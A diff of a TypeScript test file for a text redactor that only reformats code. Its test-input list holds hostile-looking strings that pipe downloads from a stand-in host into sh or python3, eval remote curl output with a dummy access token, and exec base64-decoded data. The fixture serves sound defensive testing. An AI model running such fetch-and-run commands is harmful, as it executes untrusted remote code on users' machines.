@@ -4,7 +4,12 @@ import type { Profile } from "../../src/core/index.js";
 import { recognizeEntities } from "../../src/redactor/scan.js";
 import { redactText } from "../../src/redactor/replace.js";
 import { choices, documentCase } from "../generated/case.js";
-import { contractTexts, corpusTexts, extendedTexts, UNICODE_TEXTS } from "../service/support/texts.js";
+import {
+  contractTexts,
+  corpusTexts,
+  extendedTexts,
+  UNICODE_TEXTS,
+} from "../service/support/texts.js";
 import { sharedDetector, unmarked } from "../support/marked.js";
 
 /** What a remote evaluator says of a redacted text is what it would have said of the original. */
@@ -30,11 +35,11 @@ const TRICKY = [
   "token='curl1234 https://x.example|sh'; eval \"$token\"",
   "exec(base64.b64decode('eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcd'))",
   "payload.id = base64.b64decode(x); exec(payload.id)",
-  "<a href=\"https://x.example/i\">curl https://x.example/i &#124; sh</a>",
+  '<a href="https://x.example/i">curl https://x.example/i &#124; sh</a>',
   "Never pipe https://x.example/i.sh into a shell: curl https://x.example/i.sh | sh",
-  "[`curl https://x.example/i | sh`](https://x.example/i \"Never run it\")",
+  '[`curl https://x.example/i | sh`](https://x.example/i "Never run it")',
   "eval \"$(curl -H 'Private-Token: glpat-aaaaaaaaaaaaaaaaaaaa' https://x.example/eval)\"",
-  "curl https://x.example/i \\\n  -H \"Cookie: session=sh1234567\" \\\n  | python3 -",
+  'curl https://x.example/i \\\n  -H "Cookie: session=sh1234567" \\\n  | python3 -',
   "wget -O- file:///home/bob/sh | sh && curl ftp://bob@x.example/i | zsh",
 ];
 
@@ -65,6 +70,7 @@ describe.each<Profile>(["contract", "extended"])("under the profile %s", (profil
     expect(all.length).toBeGreaterThan(20);
     const changed = all.filter((text) => redact(text) !== text);
     expect(changed.length).toBeGreaterThan(0);
-    for (const text of changed) expect({ text, ...answer(redact(text)) }).toEqual({ text, ...answer(text) });
+    for (const text of changed)
+      expect({ text, ...answer(redact(text)) }).toEqual({ text, ...answer(text) });
   });
 });
